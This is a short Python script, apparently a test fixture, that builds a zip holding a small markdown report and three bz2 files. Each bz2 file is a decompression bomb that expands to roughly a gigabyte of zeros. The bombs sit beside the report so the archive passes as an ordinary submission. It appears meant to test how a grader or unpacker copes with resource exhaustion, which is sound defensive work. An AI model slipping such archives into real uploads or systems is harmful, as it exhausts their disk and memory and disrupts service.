"""A zip that holds a report and, beside it, archives that unpack to gigabytes of nothing."""

import bz2
import io
import zipfile


def make(folder):
    zeros = bytes(2**22)
    packer, bomb = bz2.BZ2Compressor(), io.BytesIO()
    for _ in range(300):
        bomb.write(packer.compress(zeros))
    bomb.write(packer.flush())
    with zipfile.ZipFile(folder / "work.zip", "w") as out:
        out.writestr("report.md", "# Problem 1A\n\nThe layer has 61 parameters.\n")
        for number in range(3):
            out.writestr(f"more{number}.md.bz2", bomb.getvalue())
